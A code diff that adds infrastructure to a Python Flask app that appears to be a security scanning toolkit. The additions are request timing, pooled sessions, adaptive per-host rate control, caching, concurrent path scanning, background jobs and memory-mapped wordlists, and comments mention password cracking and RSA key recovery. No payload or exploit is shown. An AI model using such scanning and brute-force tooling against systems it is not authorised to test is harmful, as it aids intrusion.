@@ -5,25 +5,1909 @@ import requests
 import re
 import subprocess
 import os
+import shutil
+import tempfile
+import mmap
+import sqlite3
+import multiprocessing
 from urllib.parse import urlparse, parse_qs
 import base64
 from datetime import datetime
-from cryptography.hazmat.primitives.asymmetric import rsa
+from cryptography.hazmat.primitives.asymmetric import rsa, ec
 from cryptography.hazmat.primitives import serialization
 from cryptography.hazmat.backends import default_backend
 import time
+import threading
+import itertools
+import math
+import bisect
+import socket
+import http.cookiejar
+import uuid
+import hashlib
+import hmac
+import functools
+import copy
+from collections import deque, OrderedDict
+from contextlib import contextmanager, nullcontext
+from email.utils import parsedate_to_datetime
+from concurrent.futures import ThreadPoolExecutor, ProcessPoolExecutor, wait, FIRST_COMPLETED
+from requests.adapters import HTTPAdapter
+from requests.utils import select_proxy
+from urllib3.connection import HTTPConnection, HTTPSConnection
+from urllib3.connectionpool import HTTPConnectionPool, HTTPSConnectionPool
+from urllib3.exceptions import ConnectTimeoutError
 from dotenv import load_dotenv
 
+# Optional, makes the big-integer GCD in RSA key recovery orders of magnitude faster
+try:
+    import gmpy2
+except ImportError:
+    gmpy2 = None
+
 load_dotenv()
 
 app = Flask(__name__)
 app.secret_key = os.getenv('APP_SECRET_KEY')
 
+class RequestTimings:
+    # Per-phase timings of every request sent through the connection pool. The
+    # adapter starts a set of marks for the calling thread and the connection
+    # classes below stamp them as the request moves through urllib3
+    PHASES = ('queued', 'dns', 'connect', 'tls', 'send', 'ttfb', 'download', 'total')
+    # Histogram bucket upper bounds in milliseconds, anything slower lands in the last bucket
+    BUCKETS = (1, 2, 5, 10, 20, 50, 100, 200, 500, 1000, 2000, 5000, 10000, 30000)
+    local = threading.local()
+
+    def __init__(self, max_hosts=500):
+        self.max_hosts = max_hosts
+        self.hosts = OrderedDict()
+        self.lock = threading.Lock()
+
+    @classmethod
+    def mark(cls, name, first=False):
+        marks = getattr(cls.local, 'marks', None)
+        if marks is not None and not (first and name in marks):
+            marks[name] = time.perf_counter()
+
+    def begin(self, url, proxy=None):
+        marks = {"start": time.perf_counter(), "url": url, "proxy": proxy}
+        self.local.marks = marks
+        return marks
+
+    def end(self):
+        self.local.marks = None
+
+    @staticmethod
+    def phases(marks):
+        # Milliseconds per phase. dns/connect/tls are None on a reused connection;
+        # tls includes the CONNECT tunnel when going through a proxy
+        def span(begin, end):
+            if begin is None or end is None:
+                return None
+            return round((end - begin) * 1000, 2)
+
+        started = [marks[name] for name in ('dns_start', 'request_start') if name in marks]
+        connected = marks.get('connected')
+        request_start = marks.get('request_start')
+        send_start = max(request_start, connected) if request_start is not None and connected is not None else request_start
+        timings = {
+            "queued": span(marks["start"], min(started) if started else None),
+            "dns": span(marks.get('dns_start'), marks.get('dns_end')),
+            "connect": span(marks.get('dns_end'), marks.get('tcp_end')),
+            "tls": span(marks.get('tcp_end'), connected) if marks["url"].startswith('https') else None,
+            "send": span(send_start, marks.get('sent')),
+            "ttfb": span(marks.get('sent'), marks.get('headers')),
+            "download": span(marks.get('headers'), marks.get('body_end')),
+            "total": span(marks["start"], marks.get('body_end') or marks.get('headers')),
+            "reused": 'tcp_end' not in marks
+        }
+        return timings
+
+    def finish(self, response):
+        # Called once the body has been read. Streamed responses are finished by
+        # whoever consumes them, the adapter finishes the others
+        marks = getattr(response, 'timing_marks', None)
+        if not isinstance(marks, dict):
+            return None
+        if not marks.get('recorded'):
+            marks['body_end'] = time.perf_counter()
+            marks['recorded'] = True
+            response.timings = self.phases(marks)
+            self.record(urlparse(marks["url"]).netloc, marks["proxy"], response.timings)
+        return response.timings
+
+    def record(self, host, proxy, timings):
+        key = (host, proxy)
+        with self.lock:
+            entry = self.hosts.get(key)
+            if entry is None:
+                entry = {
+                    "requests": 0,
+                    "reused": 0,
+                    "phases": {phase: {"counts": [0] * (len(self.BUCKETS) + 1), "sum": 0.0, "max": 0.0} for phase in self.PHASES}
+                }
+                self.hosts[key] = entry
+                while len(self.hosts) > self.max_hosts:
+                    self.hosts.popitem(last=False)
+            self.hosts.move_to_end(key)
+            entry["requests"] += 1
+            entry["reused"] += timings["reused"]
+            for phase in self.PHASES:
+                value = timings[phase]
+                if value is None:
+                    continue
+                histogram = entry["phases"][phase]
+                histogram["counts"][bisect.bisect_left(self.BUCKETS, value)] += 1
+                histogram["sum"] += value
+                histogram["max"] = max(histogram["max"], value)
+
+    def percentile(self, counts, fraction):
+        # Upper bound of the bucket holding the requested rank
+        rank = fraction * sum(counts)
+        seen = 0
+        for i, count in enumerate(counts):
+            seen += count
+            if count and seen >= rank:
+                return self.BUCKETS[i] if i < len(self.BUCKETS) else None
+        return None
+
+    def clear(self):
+        with self.lock:
+            self.hosts.clear()
+
+    def get_stats(self):
+        with self.lock:
+            hosts = []
+            for (host, proxy), entry in self.hosts.items():
+                phases = {}
+                for phase, histogram in entry["phases"].items():
+                    count = sum(histogram["counts"])
+                    if not count:
+                        continue
+                    phases[phase] = {
+                        "count": count,
+                        "mean": round(histogram["sum"] / count, 2),
+                        "max": round(histogram["max"], 2),
+                        "p50": self.percentile(histogram["counts"], 0.5),
+                        "p95": self.percentile(histogram["counts"], 0.95),
+                        "counts": list(histogram["counts"])
+                    }
+                hosts.append({
+                    "host": host,
+                    "proxy": proxy,
+                    "requests": entry["requests"],
+                    "reused": entry["reused"],
+                    "phases": phases
+                })
+            return {"buckets_ms": list(self.BUCKETS), "hosts": hosts}
+
+class TimedConnectionMixin:
+    def _new_conn(self):
+        # Name resolution is done here so it can be timed apart from the TCP
+        # connect, urllib3 then connects to each address in turn as it would
+        host = self._dns_host
+        RequestTimings.mark('dns_start')
+        try:
+            addresses = socket.getaddrinfo(host.strip('[]'), self.port, 0, socket.SOCK_STREAM)
+        except OSError:
+            # Leaves the error reporting to urllib3
+            return super()._new_conn()
+        RequestTimings.mark('dns_end')
+
+        error = None
+        for *_, sockaddr in addresses:
+            self._dns_host = sockaddr[0]
+            try:
+                sock = super()._new_conn()
+            except ConnectTimeoutError as e:
+                error = e
+                continue
+            finally:
+                self._dns_host = host
+            RequestTimings.mark('tcp_end')
+            return sock
+        raise error
+
+    def connect(self):
+        super().connect()
+        RequestTimings.mark('connected')
+
+    def request(self, *args, **kwargs):
+        RequestTimings.mark('request_start', first=True)
+        super().request(*args, **kwargs)
+        RequestTimings.mark('sent')
+
+    def getresponse(self, *args, **kwargs):
+        response = super().getresponse(*args, **kwargs)
+        RequestTimings.mark('headers')
+        return response
+
+class TimedHTTPConnection(TimedConnectionMixin, HTTPConnection):
+    pass
+
+class TimedHTTPSConnection(TimedConnectionMixin, HTTPSConnection):
+    pass
+
+class TimedHTTPConnectionPool(HTTPConnectionPool):
+    ConnectionCls = TimedHTTPConnection
+
+class TimedHTTPSConnectionPool(HTTPSConnectionPool):
+    ConnectionCls = TimedHTTPSConnection
+
+class TimedHTTPAdapter(HTTPAdapter):
+    POOL_CLASSES = {'http': TimedHTTPConnectionPool, 'https': TimedHTTPSConnectionPool}
+
+    def __init__(self, timings, **kwargs):
+        self.timings = timings
+        super().__init__(**kwargs)
+
+    def init_poolmanager(self, *args, **kwargs):
+        super().init_poolmanager(*args, **kwargs)
+        self.poolmanager.pool_classes_by_scheme = self.POOL_CLASSES
+
+    def proxy_manager_for(self, proxy, **proxy_kwargs):
+        manager = super().proxy_manager_for(proxy, **proxy_kwargs)
+        # SOCKS proxies bring their own connection classes and go untimed
+        if not proxy.lower().startswith('socks'):
+            manager.pool_classes_by_scheme = self.POOL_CLASSES
+        return manager
+
+    def send(self, request, stream=False, timeout=None, verify=True, cert=None, proxies=None):
+        marks = self.timings.begin(request.url, select_proxy(request.url, proxies))
+        try:
+            response = super().send(request, stream=stream, timeout=timeout, verify=verify, cert=cert, proxies=proxies)
+        finally:
+            self.timings.end()
+        response.timing_marks = marks
+        if not stream:
+            # requests would read the body right after this, reading it here
+            # lets the download be timed
+            response.content
+            self.timings.finish(response)
+        return response
+
+class ConnectionPool:
+    def __init__(self, pool_connections=10, pool_maxsize=20, idle_timeout=300):
+        self.timings = RequestTimings()
+        self.pool_connections = pool_connections
+        self.pool_maxsize = pool_maxsize
+        self.idle_timeout = idle_timeout
+        self.sessions = {}
+        self.lock = threading.Lock()
+        self.sessions_created = 0
+        self.sessions_evicted = 0
+
+    def get_key(self, url, proxies=None, verify=True):
+        parsed_url = urlparse(url)
+        proxy = proxies.get(parsed_url.scheme) if proxies else None
+        return (parsed_url.scheme, parsed_url.netloc.lower(), proxy, verify)
+
+    def create_session(self):
+        session = requests.Session()
+        adapter = TimedHTTPAdapter(
+            self.timings,
+            pool_connections=self.pool_connections,
+            pool_maxsize=self.pool_maxsize
+        )
+        session.mount('https://', adapter)
+        session.mount('http://', adapter)
+
+        # Never let cookies from one response leak into the next raw request
+        session.cookies.set_policy(http.cookiejar.DefaultCookiePolicy(allowed_domains=[]))
+        return session
+
+    def evict_idle(self):
+        # Caller must hold self.lock
+        now = time.time()
+        for key, entry in list(self.sessions.items()):
+            if now - entry["last_used"] > self.idle_timeout:
+                entry["session"].close()
+                del self.sessions[key]
+                self.sessions_evicted += 1
+
+    def get_session(self, url, proxies=None, verify=True):
+        key = self.get_key(url, proxies, verify)
+        with self.lock:
+            self.evict_idle()
+            entry = self.sessions.get(key)
+            if entry is None:
+                entry = {
+                    "session": self.create_session(),
+                    "created": time.time(),
+                    "last_used": time.time(),
+                    "requests": 0
+                }
+                self.sessions[key] = entry
+                self.sessions_created += 1
+            entry["last_used"] = time.time()
+            entry["requests"] += 1
+            return entry["session"]
+
+    def request(self, method, url, proxies=None, verify=True, **kwargs):
+        session = self.get_session(url, proxies, verify)
+        return session.request(method, url, proxies=proxies, verify=verify, **kwargs)
+
+    def finish(self, response):
+        # Records the timings of a streamed response once its body has been read
+        return self.timings.finish(response)
+
+    def get(self, url, **kwargs):
+        return self.request('GET', url, **kwargs)
+
+    def head(self, url, **kwargs):
+        return self.request('HEAD', url, **kwargs)
+
+    def close(self):
+        with self.lock:
+            for entry in self.sessions.values():
+                entry["session"].close()
+            self.sessions.clear()
+
+    def get_stats(self):
+        with self.lock:
+            pools = []
+            total_requests = 0
+            total_connections = 0
+            for (scheme, host, proxy, verify), entry in self.sessions.items():
+                # urllib3 counts every new socket per connection pool, so the
+                # difference to our request count is the number of reused connections
+                connections = 0
+                adapters = {id(adapter): adapter for adapter in entry["session"].adapters.values()}
+                for adapter in adapters.values():
+                    managers = [adapter.poolmanager] + list(adapter.proxy_manager.values())
+                    for manager in managers:
+                        for key in list(manager.pools.keys()):
+                            pool = manager.pools.get(key)
+                            if pool is not None:
+                                connections += pool.num_connections
+                total_requests += entry["requests"]
+                total_connections += connections
+                pools.append({
+                    "scheme": scheme,
+                    "host": host,
+                    "proxy": proxy,
+                    "verify": verify,
+                    "requests": entry["requests"],
+                    "connections_opened": connections,
+                    "connections_reused": max(entry["requests"] - connections, 0),
+                    "idle_seconds": round(time.time() - entry["last_used"], 1)
+                })
+
+            return {
+                "pool_connections": self.pool_connections,
+                "pool_maxsize": self.pool_maxsize,
+                "idle_timeout": self.idle_timeout,
+                "sessions_active": len(self.sessions),
+                "sessions_created": self.sessions_created,
+                "sessions_evicted": self.sessions_evicted,
+                "total_requests": total_requests,
+                "total_connections_opened": total_connections,
+                "total_connections_reused": max(total_requests - total_connections, 0),
+                "pools": pools
+            }
+
+class RateController:
+    # Transport failures a host under load answers with, counted like a 429
+    CONGESTION_ERRORS = (requests.Timeout, requests.ConnectionError, requests.exceptions.ChunkedEncodingError)
+
+    def __init__(self, initial_concurrency=4, min_concurrency=1, max_concurrency=50,
+                 interval_step=0.05, min_backoff_interval=0.25, max_interval=10.0,
+                 latency_factor=2.0):
+        self.initial_concurrency = initial_concurrency
+        self.min_concurrency = min_concurrency
+        self.max_concurrency = max_concurrency
+        self.interval_step = interval_step
+        self.min_backoff_interval = min_backoff_interval
+        self.max_interval = max_interval
+        self.latency_factor = latency_factor
+        self.hosts = {}
+        self.lock = threading.Lock()
+
+    def get_state(self, host):
+        with self.lock:
+            if host not in self.hosts:
+                self.hosts[host] = {
+                    "condition": threading.Condition(),
+                    "concurrency": float(self.initial_concurrency),
+                    "interval": 0.0,
+                    "in_flight": 0,
+                    "next_send": 0.0,
+                    "blocked_until": 0.0,
+                    "latency": None,
+                    "requests": 0,
+                    "throttled": 0
+                }
+            return self.hosts[host]
+
+    @staticmethod
+    def parse_retry_after(value):
+        # Retry-After is either a number of seconds or an HTTP date
+        if not value:
+            return None
+        value = str(value).strip()
+        if value.isdigit():
+            return float(value)
+        try:
+            return max(0.0, parsedate_to_datetime(value).timestamp() - time.time())
+        except (TypeError, ValueError):
+            return None
+
+    def acquire(self, host, min_interval=0.0):
+        state = self.get_state(host)
+        with state["condition"]:
+            while True:
+                now = time.time()
+                if state["in_flight"] < int(state["concurrency"]):
+                    delay = max(state["blocked_until"], state["next_send"]) - now
+                    if delay <= 0:
+                        break
+                    state["condition"].wait(delay)
+                else:
+                    state["condition"].wait()
+            state["in_flight"] += 1
+            state["requests"] += 1
+            state["next_send"] = now + max(state["interval"], min_interval)
+
+    def release(self, host, status_code=None, latency=None, retry_after=None, congested=False, adjust=True):
+        state = self.get_state(host)
+        with state["condition"]:
+            state["in_flight"] -= 1
+            now = time.time()
+
+            if not adjust:
+                # The request failed before the host had a say, the window stays
+                pass
+            elif congested or status_code in (429, 503):
+                # Multiplicative decrease: halve the window and back off hard
+                state["throttled"] += 1
+                state["concurrency"] = max(float(self.min_concurrency), state["concurrency"] / 2)
+                state["interval"] = min(
+                    self.max_interval,
+                    max(state["interval"] * 2, self.min_backoff_interval)
+                )
+                delay = self.parse_retry_after(retry_after)
+                if delay is not None:
+                    state["blocked_until"] = max(state["blocked_until"], now + delay)
+            elif latency is not None and state["latency"] is not None \
+                    and latency > state["latency"] * self.latency_factor:
+                # Latency spike means the host is saturating, hold steady
+                pass
+            else:
+                # Additive increase: roughly one extra slot per full window
+                state["concurrency"] = min(
+                    float(self.max_concurrency),
+                    state["concurrency"] + 1 / state["concurrency"]
+                )
+                state["interval"] = max(0.0, state["interval"] - self.interval_step)
+
+            if latency is not None:
+                if state["latency"] is None:
+                    state["latency"] = latency
+                else:
+                    state["latency"] = state["latency"] * 0.8 + latency * 0.2
+
+            state["condition"].notify_all()
+
+    @contextmanager
+    def throttle(self, host, min_interval=0.0):
+        # The caller fills in status_code / retry_after from the response
+        feedback = {}
+        self.acquire(host, min_interval)
+        start = time.time()
+        try:
+            yield feedback
+        except requests.Timeout:
+            self.release(host, latency=time.time() - start, congested=True)
+            raise
+        except self.CONGESTION_ERRORS:
+            # Resets and refused connections come back fast, their latency says
+            # nothing about the host
+            self.release(host, congested=True)
+            raise
+        except Exception:
+            self.release(host, adjust=False)
+            raise
+        self.release(
+            host,
+            status_code=feedback.get("status_code"),
+            latency=time.time() - start,
+            retry_after=feedback.get("retry_after")
+        )
+
+    def get_delay(self, host):
+        state = self.get_state(host)
+        with state["condition"]:
+            return max(0.0, max(state["blocked_until"], state["next_send"]) - time.time())
+
+    def get_stats(self):
+        with self.lock:
+            hosts = list(self.hosts.items())
+        stats = {}
+        for host, state in hosts:
+            with state["condition"]:
+                stats[host] = {
+                    "concurrency": int(state["concurrency"]),
+                    "interval": round(state["interval"], 3),
+                    "in_flight": state["in_flight"],
+                    "latency": round(state["latency"], 3) if state["latency"] is not None else None,
+                    "requests": state["requests"],
+                    "throttled": state["throttled"],
+                    "blocked_for": round(max(0.0, state["blocked_until"] - time.time()), 1)
+                }
+        return stats
+
+class ResponseCache:
+    # Headers that describe the connection rather than the request itself
+    IGNORED_HEADERS = {'connection', 'keep-alive', 'proxy-connection', 'content-length', 'te', 'upgrade'}
+
+    def __init__(self, ttl=60, max_entries=2000, max_bytes=32 * 1024 * 1024, enabled=True):
+        self.ttl = ttl
+        self.max_entries = max_entries
+        self.max_bytes = max_bytes
+        self.enabled = enabled
+        self.entries = OrderedDict()
+        self.total_bytes = 0
+        self.lock = threading.Lock()
+        self.hits = 0
+        self.misses = 0
+        self.evictions = 0
+        self.expirations = 0
+
+    def get_key(self, method, url, headers=None, body=None, proxies=None, verify=True):
+        # The proxy and TLS verification are part of the key, a request replayed
+        # through a proxy must reach it rather than get an earlier direct answer
+        relevant_headers = sorted(
+            (key.lower(), value) for key, value in (headers or {}).items()
+            if key.lower() not in self.IGNORED_HEADERS
+        )
+        if isinstance(body, bytes):
+            body = body.decode('utf-8', errors='surrogateescape')
+        key_data = json.dumps([method.upper(), url, relevant_headers, body or '', sorted((proxies or {}).items()), verify])
+        return hashlib.sha256(key_data.encode('utf-8', errors='surrogateescape')).hexdigest()
+
+    def get(self, key):
+        if not self.enabled:
+            return None
+        with self.lock:
+            entry = self.entries.get(key)
+            if entry is None:
+                self.misses += 1
+                return None
+            expires, size, value = entry
+            if expires < time.time():
+                self.remove(key)
+                self.expirations += 1
+                self.misses += 1
+                return None
+            # Most recently used entries move to the end, eviction starts at the front
+            self.entries.move_to_end(key)
+            self.hits += 1
+            return dict(value)
+
+    def put(self, key, value, size):
+        if not self.enabled or size > self.max_bytes:
+            return
+        with self.lock:
+            if key in self.entries:
+                self.remove(key)
+            self.entries[key] = (time.time() + self.ttl, size, dict(value))
+            self.total_bytes += size
+            while self.entries and (len(self.entries) > self.max_entries or self.total_bytes > self.max_bytes):
+                self.remove(next(iter(self.entries)))
+                self.evictions += 1
+
+    def remove(self, key):
+        # Caller must hold self.lock
+        _, size, _ = self.entries.pop(key)
+        self.total_bytes -= size
+
+    def clear(self):
+        with self.lock:
+            self.entries.clear()
+            self.total_bytes = 0
+
+    def get_stats(self):
+        with self.lock:
+            lookups = self.hits + self.misses
+            return {
+                "enabled": self.enabled,
+                "ttl": self.ttl,
+                "entries": len(self.entries),
+                "bytes": self.total_bytes,
+                "max_entries": self.max_entries,
+                "max_bytes": self.max_bytes,
+                "hits": self.hits,
+                "misses": self.misses,
+                "hit_rate": round(self.hits / lookups, 3) if lookups else 0.0,
+                "evictions": self.evictions,
+                "expirations": self.expirations
+            }
+
+class ScanEngine:
+    def __init__(self, max_workers=20, per_host_limit=10, max_concurrency=100):
+        self.max_workers = max_workers
+        self.per_host_limit = per_host_limit
+        self.max_concurrency = max_concurrency
+        self.host_slots = {}
+        self.host_slots_lock = threading.Lock()
+
+    def get_host_slot(self, host):
+        # Per-host semaphores are shared by every scan so that two scans against
+        # the same host never exceed the per-host connection limit together
+        with self.host_slots_lock:
+            if host not in self.host_slots:
+                self.host_slots[host] = threading.BoundedSemaphore(self.per_host_limit)
+            return self.host_slots[host]
+
+    def get_concurrency(self, concurrency=None):
+        try:
+            concurrency = int(concurrency) if concurrency else self.max_workers
+        except (TypeError, ValueError):
+            concurrency = self.max_workers
+        return max(1, min(concurrency, self.max_concurrency))
+
+    def run(self, func, items, host_for=None, concurrency=None):
+        # Call func for every item with a bounded number of calls in flight and
+        # yield (item, result, error) tuples in completion order
+        concurrency = self.get_concurrency(concurrency)
+        items = iter(items)
+        executor = ThreadPoolExecutor(max_workers=concurrency)
+        pending = {}
+
+        def call(item):
+            if host_for is None:
+                return func(item)
+            with self.get_host_slot(host_for(item)):
+                return func(item)
+
+        try:
+            for item in itertools.islice(items, concurrency):
+                pending[executor.submit(call, item)] = item
+
+            while pending:
+                done, _ = wait(pending, return_when=FIRST_COMPLETED)
+                for future in done:
+                    item = pending.pop(future)
+                    try:
+                        result, error = future.result(), None
+                    except Exception as e:
+                        result, error = None, e
+
+                    # Refill the pool before handing the result back so the
+                    # next request is already in flight while the caller works
+                    for next_item in itertools.islice(items, 1):
+                        pending[executor.submit(call, next_item)] = next_item
+
+                    yield item, result, error
+        finally:
+            # Stop queued work if the consumer goes away (e.g. client disconnect)
+            for future in pending:
+                future.cancel()
+            executor.shutdown(wait=False)
+
+    def run_fair(self, func, queues, concurrency=None):
+        # Like run, but items come from one queue per host and the shared budget of
+        # in-flight calls is handed out round-robin. No host may hold more than its
+        # fair share of slots, so one slow host cannot stall the others
+        concurrency = self.get_concurrency(concurrency)
+        iterators = OrderedDict((host, iter(items)) for host, items in queues.items())
+        in_flight = {host: 0 for host in iterators}
+        executor = ThreadPoolExecutor(max_workers=concurrency)
+        pending = {}
+
+        def call(host, item):
+            with self.get_host_slot(host):
+                return func(item)
+
+        def fill():
+            while len(pending) < concurrency and iterators:
+                share = max(1, concurrency // len(iterators))
+                submitted = False
+                for host in list(iterators):
+                    if len(pending) >= concurrency:
+                        break
+                    if in_flight[host] >= share:
+                        continue
+                    try:
+                        item = next(iterators[host])
+                    except StopIteration:
+                        del iterators[host]
+                        submitted = True
+                        continue
+                    pending[executor.submit(call, host, item)] = (host, item)
+                    in_flight[host] += 1
+                    # Rotate so the next free slot goes to another host first
+                    iterators.move_to_end(host)
+                    submitted = True
+                if not submitted:
+                    break
+
+        try:
+            fill()
+            while pending:
+                done, _ = wait(pending, return_when=FIRST_COMPLETED)
+                for future in done:
+                    host, item = pending.pop(future)
+                    in_flight[host] -= 1
+                    try:
+                        result, error = future.result(), None
+                    except Exception as e:
+                        result, error = None, e
+
+                    fill()
+                    yield item, result, error
+        finally:
+            for future in pending:
+                future.cancel()
+            executor.shutdown(wait=False)
+
+class ScanProgress:
+    def __init__(self, total_files, batch_size=50, flush_interval=0.5, snapshot_every=1000):
+        self.total_files = total_files
+        self.batch_size = batch_size
+        self.flush_interval = flush_interval
+        self.snapshot_every = snapshot_every
+        self.total_files_checked = 0
+        self.found_files = []
+        self.new_checked = []
+        self.new_found = []
+        self.seq = 0
+        self.last_flush = time.time()
+        self.since_snapshot = 0
+        self.resumed_files = 0
+
+    def add(self, checked_file, found_file=None):
+        self.total_files_checked += 1
+        self.since_snapshot += 1
+        self.new_checked.append(checked_file)
+        if found_file is not None:
+            self.found_files.append(found_file)
+            self.new_found.append(found_file)
+
+    def restore(self, total_files_checked, found_files):
+        # Additive, a batch scan restores one checkpoint per target
+        self.total_files_checked += total_files_checked
+        self.found_files.extend(found_files)
+        self.resumed_files += total_files_checked
+
+    def counters(self):
+        return {
+            'total_files': self.total_files,
+            'total_files_checked': self.total_files_checked,
+            'files_found': len(self.found_files)
+        }
+
+    def next_seq(self):
+        self.seq += 1
+        return self.seq
+
+    def delta(self):
+        # Only the results gathered since the previous event plus running counters
+        event = {'type': 'delta', 'seq': self.next_seq()}
+        event.update(self.counters())
+        event['checked_files'] = self.new_checked
+        event['found_files'] = self.new_found
+        self.new_checked = []
+        self.new_found = []
+        self.last_flush = time.time()
+        return event
+
+    def snapshot(self, done=False):
+        # Compact full state for (re)connecting clients: counters and hits only,
+        # the per-path checked list is never repeated
+        event = {'type': 'snapshot', 'seq': self.next_seq(), 'done': done}
+        event.update(self.counters())
+        if self.resumed_files:
+            event['resumed_files'] = self.resumed_files
+        event['found_files'] = list(self.found_files)
+        self.since_snapshot = 0
+        return event
+
+    def events(self, force=False):
+        if self.new_checked and (
+            force
+            or len(self.new_checked) >= self.batch_size
+            or time.time() - self.last_flush >= self.flush_interval
+        ):
+            yield self.delta()
+        if self.since_snapshot >= self.snapshot_every:
+            yield self.snapshot()
+
+    @staticmethod
+    def encode(event):
+        return json.dumps(event, separators=(',', ':')) + '\n'
+
+class Job:
+    def __init__(self, kind, owner, func, max_buffer=10000):
+        self.id = uuid.uuid4().hex
+        self.kind = kind
+        self.owner = owner
+        self.func = func
+        self.max_buffer = max_buffer
+        self.status = 'queued'
+        self.error = None
+        self.created = time.time()
+        self.started = None
+        self.finished = None
+        self.chunks = []
+        self.base = 0
+        self.condition = threading.Condition()
+        self.cancel_event = threading.Event()
+
+    def append(self, chunk):
+        with self.condition:
+            self.chunks.append(chunk)
+            # Keep the buffer bounded, late readers start from the oldest kept chunk
+            if len(self.chunks) > self.max_buffer:
+                drop = len(self.chunks) - self.max_buffer
+                del self.chunks[:drop]
+                self.base += drop
+            self.condition.notify_all()
+
+    def start(self):
+        with self.condition:
+            self.status = 'running'
+            self.started = time.time()
+
+    def finish(self, status, error=None):
+        with self.condition:
+            self.status = status
+            self.error = error
+            self.finished = time.time()
+            self.condition.notify_all()
+
+    def is_finished(self):
+        return self.status in ('done', 'cancelled', 'error')
+
+    def read(self, offset, timeout=15):
+        with self.condition:
+            if offset - self.base >= len(self.chunks) and not self.is_finished():
+                self.condition.wait(timeout)
+            start = max(offset, self.base)
+            return start, self.chunks[start - self.base:], self.is_finished()
+
+    def to_dict(self):
+        with self.condition:
+            return {
+                "job_id": self.id,
+                "kind": self.kind,
+                "status": self.status,
+                "error": self.error,
+                "created": self.created,
+                "started": self.started,
+                "finished": self.finished,
+                "output_start": self.base,
+                "output_end": self.base + len(self.chunks)
+            }
+
+class JobManager:
+    def __init__(self, max_workers=4, max_queued_per_owner=5, max_buffer=10000, job_ttl=3600):
+        self.max_workers = max_workers
+        self.max_queued_per_owner = max_queued_per_owner
+        self.max_buffer = max_buffer
+        self.job_ttl = job_ttl
+        self.jobs = {}
+        # One queue per owner, served round-robin so a busy user cannot starve others
+        self.queues = OrderedDict()
+        self.condition = threading.Condition()
+        self.workers = []
+        for _ in range(max_workers):
+            worker = threading.Thread(target=self.work, daemon=True)
+            worker.start()
+            self.workers.append(worker)
+
+    def cleanup(self):
+        # Caller must hold self.condition
+        now = time.time()
+        for job_id, job in list(self.jobs.items()):
+            if job.is_finished() and now - job.finished > self.job_ttl:
+                del self.jobs[job_id]
+
+    def submit(self, kind, func, owner=None):
+        # func receives the job's cancel event and returns an iterable of dict chunks
+        with self.condition:
+            self.cleanup()
+            queued = sum(1 for job in self.jobs.values() if job.owner == owner and not job.is_finished())
+            if queued >= self.max_queued_per_owner:
+                return {"error": f"Too many active jobs (limit {self.max_queued_per_owner})"}
+
+            job = Job(kind, owner, func, self.max_buffer)
+            self.jobs[job.id] = job
+            self.queues.setdefault(owner, deque()).append(job)
+            self.condition.notify()
+            return job.to_dict()
+
+    def next_job(self):
+        with self.condition:
+            while not self.queues:
+                self.condition.wait()
+            owner, queue = self.queues.popitem(last=False)
+            job = queue.popleft()
+            if queue:
+                # Owner goes to the back of the line for its next job
+                self.queues[owner] = queue
+            return job
+
+    def work(self):
+        while True:
+            job = self.next_job()
+            if job.cancel_event.is_set():
+                job.finish('cancelled')
+                continue
+            self.run(job)
+
+    def run(self, job):
+        job.start()
+        iterator = None
+        try:
+            iterator = iter(job.func(job.cancel_event))
+            for chunk in iterator:
+                job.append(chunk)
+                if job.cancel_event.is_set():
+                    break
+            job.finish('cancelled' if job.cancel_event.is_set() else 'done')
+        except Exception as e:
+            job.append({"error": f"Job failed: {str(e)}", "done": True})
+            job.finish('error', str(e))
+        finally:
+            # Closing a generator runs its cleanup, e.g. cancelling queued probes
+            if iterator is not None and hasattr(iterator, 'close'):
+                iterator.close()
+
+    def get(self, job_id, owner=None):
+        with self.condition:
+            job = self.jobs.get(job_id)
+        if job is None or (owner is not None and job.owner != owner):
+            return None
+        return job
+
+    def cancel(self, job_id, owner=None):
+        job = self.get(job_id, owner)
+        if job is None:
+            return {"error": "Job not found"}
+        job.cancel_event.set()
+        return job.to_dict()
+
+    def list_jobs(self, owner=None):
+        with self.condition:
+            jobs = [job for job in self.jobs.values() if owner is None or job.owner == owner]
+        return [job.to_dict() for job in jobs]
+
+class MappedWordlist:
+    WHITESPACE = frozenset(b' \t\r\n\x0b\x0c')
+
+    def __init__(self, path, strip=True):
+        # The file is mapped read-only, pages are loaded by the OS as entries are read
+        # and shared between every process that maps the same list
+        self.path = path
+        self.strip = strip
+        fd = os.open(path, os.O_RDONLY | getattr(os, 'O_BINARY', 0))
+        try:
+            self.size = os.fstat(fd).st_size
+            # An empty file cannot be mapped
+            self.data = mmap.mmap(fd, 0, access=mmap.ACCESS_READ) if self.size else b''
+        finally:
+            # The mapping stays valid after the descriptor is closed
+            os.close(fd)
+        self.view = memoryview(self.data)
+        self.count = None
+
+    def close(self):
+        self.view.release()
+        if isinstance(self.data, mmap.mmap):
+            self.data.close()
+
+    def __enter__(self):
+        return self
+
+    def __exit__(self, *exc_info):
+        self.close()
+
+    def shards(self, shard_size=1024 * 1024):
+        # Byte ranges of roughly shard_size, each ending after a line break so no
+        # entry is split between two shards
+        start = 0
+        while start < self.size:
+            end = self.data.find(b'\n', min(start + shard_size, self.size) - 1)
+            end = self.size if end == -1 else end + 1
+            yield start, end
+            start = end
+
+    def read_shard(self, start, end):
+        # One bounded copy of the shard split in C, much faster than slicing line by
+        # line when every entry is consumed (cracking, counting)
+        lines = self.data[start:end].split(b'\n')
+        if self.strip:
+            lines = (line.strip() for line in lines)
+        else:
+            lines = (line[:-1] if line.endswith(b'\r') else line for line in lines)
+        return [line for line in lines if line]
+
+    def entries(self, start=0, end=None):
+        # Zero-copy memoryview slices of each non-empty entry
+        end = self.size if end is None else end
+        data = self.data
+        view = self.view
+        whitespace = self.WHITESPACE
+        while start < end:
+            line_end = data.find(b'\n', start, end)
+            if line_end == -1:
+                line_end = end
+            first, last = start, line_end
+            if self.strip:
+                while first < last and data[first] in whitespace:
+                    first += 1
+                while last > first and data[last - 1] in whitespace:
+                    last -= 1
+            elif last > first and data[last - 1] == 0x0D:
+                last -= 1
+            if last > first:
+                yield view[first:last]
+            start = line_end + 1
+
+    def __len__(self):
+        if self.count is None:
+            self.count = sum(len(self.read_shard(start, end)) for start, end in self.shards())
+        return self.count
+
+class WordlistRegistry:
+    def __init__(self, paths=None, directory='wordlists'):
+        self.paths = {}
+        self.directory = directory
+        self.cache = {}
+        self.mapped = {}
+        self.lock = threading.Lock()
+        for name, path in (paths or {}).items():
+            self.register(name, path)
+
+    def register(self, name, path, strip=True):
+        # strip=False only drops the line ending, for lists where whitespace matters
+        self.paths[name] = (path, strip)
+
+    def get_path(self, name):
+        if name in self.paths:
+            return self.paths[name]
+
